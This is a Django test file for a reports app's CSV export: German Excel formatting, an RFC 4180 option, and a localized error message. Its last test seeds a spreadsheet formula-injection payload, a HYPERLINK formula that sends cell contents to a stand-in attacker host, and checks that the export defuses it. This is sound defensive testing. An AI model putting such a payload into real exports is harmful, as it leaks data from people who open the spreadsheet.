"""The office opens a report's CSV export in German Excel: columns split at semicolons, umlauts intact;
a program that wants plain RFC 4180 CSV asks for it."""

from __future__ import annotations

import codecs
import csv
import io

import pytest
from django.urls import reverse

from tests.reports.conftest import german_csv_rows

pytestmark = pytest.mark.django_db


def test_report_csv_is_for_german_spreadsheet_programs_by_default(client, office_user, town):
    client.force_login(office_user)

    response = client.get(reverse("reports:coverage"), {"export": "csv"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = german_csv_rows(response)
    assert rows[0][1:4] == ["Nordstadt", "Südstadt", "Altstadt"]


def test_report_csv_as_plain_rfc_4180_on_request(client, office_user, town):
    client.force_login(office_user)

    response = client.get(reverse("reports:coverage"), {"export": "csv", "dialect": "rfc4180"})

    body = b"".join(response.streaming_content)
    assert not body.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    assert rows[0][1:4] == ["Nordstadt", "Südstadt", "Altstadt"]
    assert body.endswith(b"\r\n")


def test_an_unknown_dialect_is_explained_in_the_office_users_language(client, office_user, town):
    client.force_login(office_user)

    response = client.get(
        reverse("reports:coverage"), {"export": "csv", "dialect": "tsv"}, HTTP_ACCEPT_LANGUAGE="de"
    )

    assert response.status_code == 400
    assert "Es gibt kein CSV-Format „tsv“" in response.content.decode()


def test_what_visitors_searched_reaches_the_office_s_csv_export_as_text_not_as_a_formula(
    client, office_user, searches
):
    # A visitor's search words and a partner's titles reach the office's spreadsheet: a cell that starts
    # like a formula ("=HYPERLINK(...)") would run when the office opens the export.
    searches('=HYPERLINK("http://evil.example/?"&A1;"Mehr")', results=0)
    searches("@SUMME(Kurs)", results=0)
    client.force_login(office_user)

    for table in ("searches", "no_results"):
        response = client.get(reverse("reports:demand"), {"table": table, "export": "csv"})
        cells = [row[0] for row in german_csv_rows(response)[1:]]
        assert not any(cell.startswith(("=", "@")) for cell in cells), table
        assert "'@summe(kurs)" in cells, table
